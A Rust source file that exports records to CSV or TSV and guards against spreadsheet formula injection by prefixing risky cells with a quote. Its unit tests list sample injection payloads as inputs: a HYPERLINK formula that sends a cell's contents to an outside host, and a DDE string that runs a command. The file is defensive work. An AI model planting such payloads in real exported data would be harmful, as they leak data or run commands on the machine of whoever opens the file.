//! CSV and TSV export: a fixed, documented column order; nested fields flattened by dotted
//! path; lists joined with [`LIST_SEPARATOR`]; cells that a spreadsheet would run as a formula
//! neutralised (see [`neutralise`]) unless the caller asks for raw text.

use std::io::{self, Write};

use serde_json::Value;

use super::{RecordWriter, lookup};
use crate::jsonl::LineError;

/// The default columns, in order. Documented in `docs/export.md` and `earful export --help`.
pub const DEFAULT_COLUMNS: [&str; 30] = [
    "id",
    "platform",
    "kind",
    "published",
    "author.name",
    "author.handle",
    "author.followers",
    "title",
    "text",
    "url",
    "lang",
    "sentiment.score",
    "sentiment.label",
    "labels",
    "matches",
    "metrics.likes",
    "metrics.reposts",
    "metrics.replies",
    "metrics.quotes",
    "metrics.views",
    "metrics.score",
    "metrics.comments",
    "tags",
    "mentions",
    "links",
    "in_reply_to",
    "source.type",
    "source.uri",
    "source.title",
    "collected",
];

/// Joins the items of a list field in one cell.
pub const LIST_SEPARATOR: &str = " | ";

/// How to write CSV or TSV.
#[derive(Debug, Clone)]
pub struct CsvOptions {
    /// Dotted paths such as `author.handle`; `None` means [`DEFAULT_COLUMNS`].
    pub columns: Option<Vec<String>>,
    /// `b','` for CSV, `b'\t'` for TSV.
    pub delimiter: u8,
    /// Write cells as they are, without [`neutralise`] (`--raw`).
    pub raw: bool,
    /// Start the file with a UTF-8 byte order mark, for Excel on Windows (`--bom`).
    pub bom: bool,
}

impl Default for CsvOptions {
    fn default() -> CsvOptions {
        CsvOptions {
            columns: None,
            delimiter: b',',
            raw: false,
            bom: false,
        }
    }
}

pub struct CsvWriter<W: Write> {
    writer: csv::Writer<W>,
    columns: Vec<String>,
    cells: Vec<String>,
    raw: bool,
}

impl<W: Write> CsvWriter<W> {
    /// A writer that writes the byte order mark (if asked) and the header row at once.
    pub fn new(mut out: W, options: CsvOptions) -> io::Result<CsvWriter<W>> {
        if options.bom {
            out.write_all("\u{feff}".as_bytes())?;
        }
        let columns = options
            .columns
            .unwrap_or_else(|| DEFAULT_COLUMNS.iter().map(|c| (*c).to_owned()).collect());
        let mut writer = csv::WriterBuilder::new()
            .delimiter(options.delimiter)
            .from_writer(out);
        writer.write_record(&columns).map_err(into_io)?;
        Ok(CsvWriter {
            writer,
            cells: vec![String::new(); columns.len()],
            columns,
            raw: options.raw,
        })
    }
}

impl<W: Write> RecordWriter for CsvWriter<W> {
    fn write(&mut self, _line: &str, record: &Value) -> Result<(), LineError> {
        for (cell, column) in self.cells.iter_mut().zip(&self.columns) {
            cell.clear();
            if let Some(value) = lookup(record, column) {
                write_cell(cell, value);
                if !self.raw {
                    neutralise(cell);
                }
            }
        }
        Ok(self.writer.write_record(&self.cells).map_err(into_io)?)
    }

    fn finish(&mut self) -> io::Result<()> {
        self.writer.flush()
    }
}

/// Keeps the kind of an I/O error (a closed pipe must stay recognisable as one).
fn into_io(err: csv::Error) -> io::Error {
    match err.into_kind() {
        csv::ErrorKind::Io(err) => err,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// Makes a cell safe to open in a spreadsheet (OWASP "CSV injection"): a cell starting with
/// `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, so Excel, LibreOffice and
/// Google Sheets show it as text instead of running it as a formula. A cell that is a plain
/// number (`-0.4`, `+3`, `1e-5`) is left alone, so scores stay numbers.
pub fn neutralise(cell: &mut String) {
    if starts_risky(cell) && !is_plain_number(cell) {
        cell.insert(0, '\'');
    }
}

/// The cell as it was before [`neutralise`] (`'@united` is `@united`), for a stage that reads
/// back what export wrote (`train` on an exported, labelled sample).
pub fn unneutralise(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_risky(rest) => rest,
        _ => cell,
    }
}

/// Whether a spreadsheet would run a cell starting like this as a formula.
fn starts_risky(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// Digits with an optional sign, decimal point and exponent; no `inf`, `NaN` or spaces.
fn is_plain_number(s: &str) -> bool {
    s.bytes().any(|b| b.is_ascii_digit())
        && s.bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && s.parse::<f64>().is_ok()
}

/// Renders a JSON value as cell text: strings as they are, numbers and booleans as JSON,
/// lists joined, objects as compact JSON, null as empty.
pub(super) fn write_cell(cell: &mut String, value: &Value) {
    match value {
        Value::Null => {}
        Value::String(s) => cell.push_str(s),
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    cell.push_str(LIST_SEPARATOR);
                }
                write_cell(cell, item);
            }
        }
        other => cell.push_str(&other.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flattens_and_joins() {
        let mut out = Vec::new();
        {
            let columns = ["id", "author.handle", "tags", "x"];
            let options = CsvOptions {
                columns: Some(columns.iter().map(|c| (*c).to_owned()).collect()),
                ..CsvOptions::default()
            };
            let mut writer = CsvWriter::new(&mut out, options).unwrap();
            let rec: Value = serde_json::from_str(
                r#"{"id":"1","author":{"handle":"a"},"tags":["p","q"],"x":{"y":1}}"#,
            )
            .unwrap();
            writer.write("", &rec).unwrap();
            writer
                .write("", &serde_json::json!({"id": "2, with comma"}))
                .unwrap();
            writer.finish().unwrap();
        }
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "id,author.handle,tags,x\n1,a,p | q,\"{\"\"y\"\":1}\"\n\"2, with comma\",,,\n"
        );
    }

    #[test]
    fn neutralises_formulas_but_not_numbers() {
        let cases = [
            (
                "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")",
            ),
            ("+1+2", "'+1+2"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-0.4", "-0.4"),
            ("+3", "+3"),
            ("-1e-5", "-1e-5"),
            ("plain = text", "plain = text"),
            ("", ""),
        ];
        for (input, want) in cases {
            let mut cell = input.to_owned();
            neutralise(&mut cell);
            assert_eq!(cell, want, "{input:?}");
        }
    }

    #[test]
    fn unneutralise_undoes_neutralise() {
        for cell in [
            "=SUM(A1)", "@united", "-bad", "plain", "'quoted", "-0.4", "",
        ] {
            let mut c = cell.to_owned();
            neutralise(&mut c);
            assert_eq!(unneutralise(&c), cell);
        }
    }
}
